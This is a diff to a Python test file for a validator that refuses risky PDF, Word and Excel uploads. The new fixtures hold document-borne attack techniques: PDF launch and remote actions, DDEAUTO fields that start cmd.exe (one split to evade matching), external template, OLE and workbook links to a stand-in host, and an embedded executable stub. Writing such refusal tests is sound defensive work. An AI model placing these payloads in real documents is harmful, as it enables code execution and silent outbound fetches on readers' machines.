@@ -197,7 +197,7 @@ def _smart_form(made: pikepdf.Pdf) -> None:
     [
         (pdf(change=_acts(S=Name.JavaScript, JS="app.alert(1)")), "script"),
         (pdf(change=_script_in_names), "script"),
-        (pdf(change=_script_on_page), "script"),
+        (pdf(change=_script_on_page), "launch"),  # what acts by itself, whatever it does
         (
             pdf(
                 change=_script_nothing_leads_to,
@@ -211,6 +211,10 @@ def _smart_form(made: pikepdf.Pdf) -> None:
         (pdf(change=_file_in_it), "embedded"),
         (pdf(change=_file_on_page), "embedded"),
         (pdf(change=_acts(S=Name.Launch, F="cmd.exe")), "launch"),
+        (pdf(change=_acts(S=Name.SubmitForm, F="http://elders.example/")), "launch"),
+        (pdf(change=_acts(S=Name.GoToR, F="//elders.example/deel/x.pdf")), "launch"),
+        (pdf(change=_acts(S=Name.URI, URI="http://elders.example/")), "launch"),
+        (pdf() + zipped({"kwaad.exe": b"MZ"}), "nested"),
         (pdf(encryption=pikepdf.Encryption(owner="x", user="y")), "encrypted"),
         (pdf(encryption=pikepdf.Encryption(owner="x", user="")), "encrypted"),
         (b"%PDF-1.7", "damaged"),
@@ -247,3 +251,53 @@ def test_the_page_holds_every_sentence() -> None:
 def test_every_refusal_is_one_sentence() -> None:
     for code, sentence in SENTENCES.items():
         assert re.fullmatch(r"[A-Z][^.!?]*; [^.!?]*\.", sentence), code
+
+
+RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
+OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _linked(kind: str, target: str = "http://elders.example/x", mode: str = "External") -> str:
+    return (
+        f'<Relationships xmlns="{RELS}"><Relationship Id="rId9" Type="{OFFICE_RELS}/{kind}" '
+        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
+    )
+
+
+def _field(*words: str) -> str:
+    runs = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
+    return f"<w:p>{runs}</w:p>"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        docx(more={"word/_rels/settings.xml.rels": _linked("attachedTemplate")}),
+        docx(more={"word/_rels/document.xml.rels": _linked("oleObject")}),
+        docx(more={"word/_rels/document.xml.rels": _linked("image", mode="EXTERNAL")}),
+        docx(_field("DDEAUTO c:\\windows\\system32\\cmd.exe")),
+        docx(_field("D", "DE", "AUTO cmd")),
+        docx('<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>'),
+    ],
+)
+def test_a_text_that_fetches_or_starts_something_is_refused(content: bytes) -> None:
+    assert refusal(content, Kind.DOCX) == "outside"
+
+
+def test_a_workbook_that_is_linked_to_another_is_refused() -> None:
+    link = {"xl/externalLinks/_rels/externalLink1.xml.rels": _linked("externalLinkPath")}
+    assert refusal(with_parts(xlsx(), link), Kind.XLSX) == "outside"
+    dde = {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/>'}
+    dde = {name: f"{text}</externalLink>" for name, text in dde.items()}
+    assert refusal(with_parts(xlsx(), dde), Kind.XLSX) == "outside"
+
+
+def test_a_workbook_that_fetches_figures_is_refused() -> None:
+    web = {"xl/connections.xml": '<connections><connection refreshOnLoad="1"/></connections>'}
+    assert refusal(with_parts(xlsx(), web), Kind.XLSX) == "outside"
+
+
+def test_a_link_to_click_on_and_a_page_number_may_stay() -> None:
+    links = {"word/_rels/document.xml.rels": _linked("hyperlink")}
+    body = _field("PAGE") + paragraph("De DDE-code van de gemeente")
+    assert refusal(docx(body, more=links), Kind.DOCX) == ""
